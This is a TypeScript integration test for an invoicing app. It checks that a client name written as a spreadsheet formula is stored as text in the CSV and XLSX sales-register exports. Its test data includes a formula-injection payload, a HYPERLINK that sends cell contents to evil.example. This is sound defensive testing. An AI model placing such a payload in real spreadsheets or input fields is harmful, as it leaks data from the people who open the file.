import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { hondurasDate } from '../../src/domain/calendar-date';
import { runAdminProcess } from '../support/admin-process';
import { createConsoleTest, type ConsoleClient, type ConsoleTest } from '../support/console-client';
import { parseCsv } from '../support/csv';
import { uniqueCode } from '../support/factories';
import { CART, caiOf, issueSale, setupWithRanges } from '../support/issuing-fixtures';
import { setUpCompany, type ReadyCompany } from '../support/setup-fixtures';

const FAR = '2099-12-31';
/** What an integrator or a web-shop buyer can name a client through POST /v1/clients. */
const HOSTILE_NAME = '=HYPERLINK("https://evil.example/?d="&A2&B2,"Ver detalle")';
const DIGITS_NAME = '20261130';
const RTN = '08019000000077';
/** The sales register's columns (rates 15 % and 18 % only). */
const RTN_COLUMN = 3;
const CLIENT_COLUMN = 4;
const AMOUNT_COLUMNS = [8, 9, 10, 11, 12, 13, 14, 15];
const TOTAL_COLUMN = 15;

/**
 * A client name that is a spreadsheet formula, created through the API, invoiced and credited,
 * reaches the accountant's sales register as text: in the CSV the CLI writes and the console
 * downloads, its cell begins with an apostrophe, while amounts, a credit note's negative ones
 * included, stay plain numbers, and an RTN or a name of digits stays as written. In XLSX it is a
 * string cell. CART totals 343.10.
 */
describe('the sales register holds a formula-like client name as text', () => {
  let c: ConsoleTest;
  let company: ReadyCompany;
  let accountant: ConsoleClient;
  let dir: string;
  const today = hondurasDate(new Date());
  const admin = (...args: string[]) => runAdminProcess(c.t.config.databaseUrl, args);

  async function createClient(body: object): Promise<number> {
    const res = await c.t.http.post('/v1/clients').set(company.auth).send(body);
    expect(res.status).toBe(201);
    return (res.body as { id: number }).id;
  }

  /** The register's rows with a name: the hostile client's invoice and credit note, then the other's invoice. */
  function checkRegister(rows: string[][]): void {
    const body = rows.slice(1, -1);
    expect(body.map((r) => [r[RTN_COLUMN], r[CLIENT_COLUMN], r[TOTAL_COLUMN], r[17]])).toEqual([
      ['', `'${HOSTILE_NAME}`, '343.10', 'FACTURA'],
      [RTN, DIGITS_NAME, '343.10', 'FACTURA'],
      ['', `'${HOSTILE_NAME}`, '-343.10', 'NOTA DE CRÉDITO'],
    ]);
    for (const row of body) for (const col of AMOUNT_COLUMNS) expect(row[col]).toMatch(/^-?\d+\.\d{2}$/);
    expect(rows.at(-1)![TOTAL_COLUMN]).toBe('343.10');
  }

  beforeAll(async () => {
    c = await createConsoleTest();
    dir = mkdtempSync(path.join(tmpdir(), 'formula-cells-'));
    company = await setUpCompany(
      c.t,
      setupWithRanges(
        [
          { cai: caiOf('a'), rangeStart: 1, rangeEnd: 1000, deadline: FAR },
          { cai: caiOf('b'), rangeStart: 1, rangeEnd: 1000, deadline: FAR, documentType: 'creditNote' },
        ],
        uniqueCode('F'),
      ),
    );
    const hostile = await createClient({ clientName: HOSTILE_NAME, email: 'compras@evil.example' });
    const digits = await createClient({ clientName: DIGITS_NAME, email: 'caja@numeros.hn', legalId: RTN });
    const invoice = await issueSale(c.t.http, company.auth, 'formula-1', { ...CART, clientId: hostile });
    await issueSale(c.t.http, company.auth, 'formula-2', { ...CART, clientId: digits });
    const credit = await admin(
      'note',
      'credit',
      '--company',
      company.code,
      '--invoice-id',
      String(invoice.id),
      '--reason',
      'Devolución total',
      '--full',
    );
    expect(credit).toMatchObject({ code: 0, stderr: '' });
    const password = await c.addOperator('contador@formulas.hn', 'accountant', [company.code]);
    accountant = c.client();
    await accountant.signIn('contador@formulas.hn', password);
  }, 120_000);
  afterAll(() => c.close());

  it('admin report sales writes the name with a leading apostrophe, amounts as plain numbers', async () => {
    const file = path.join(dir, 'register.csv');
    const run = await admin('report', 'sales', '--company', company.code, '--from', today, '--to', today, '--out', file);
    expect(run).toMatchObject({ code: 0, stderr: '' });
    const raw = readFileSync(file, 'utf8');
    expect(raw).toContain(`,"'=HYPERLINK(""https://evil.example/?d=""&A2&B2,""Ver detalle"")",`);
    checkRegister(parseCsv(raw.replace(/^\uFEFF/, '')));
  });

  it("the console's CSV download is the same register", async () => {
    const csv = await accountant.get(`/companies/${company.code}/reports/sales?from=${today}&to=${today}&format=csv`);
    expect(csv.status).toBe(200);
    checkRegister(parseCsv(csv.text.replace(/^\uFEFF/, '')));
  });

  it("the console's XLSX download holds the name as a string cell, not a formula, and amounts as numbers", async () => {
    const xlsx = await accountant.download(`/companies/${company.code}/reports/sales?from=${today}&to=${today}&format=xlsx`);
    expect(xlsx.status).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx.body as ExcelJS.Buffer);
    const sheet = workbook.worksheets[0];
    const cell = (row: number, column: number) => sheet.getCell(row, column + 1);
    for (const row of [2, 4]) {
      expect(cell(row, CLIENT_COLUMN)).toMatchObject({ type: ExcelJS.ValueType.String, value: HOSTILE_NAME });
      expect(cell(row, CLIENT_COLUMN).formula).toBeUndefined();
    }
    expect(cell(3, RTN_COLUMN)).toMatchObject({ type: ExcelJS.ValueType.String, value: RTN });
    expect(cell(3, CLIENT_COLUMN)).toMatchObject({ type: ExcelJS.ValueType.String, value: DIGITS_NAME });
    expect(cell(4, TOTAL_COLUMN)).toMatchObject({ type: ExcelJS.ValueType.Number, value: -343.1 });
  });
});
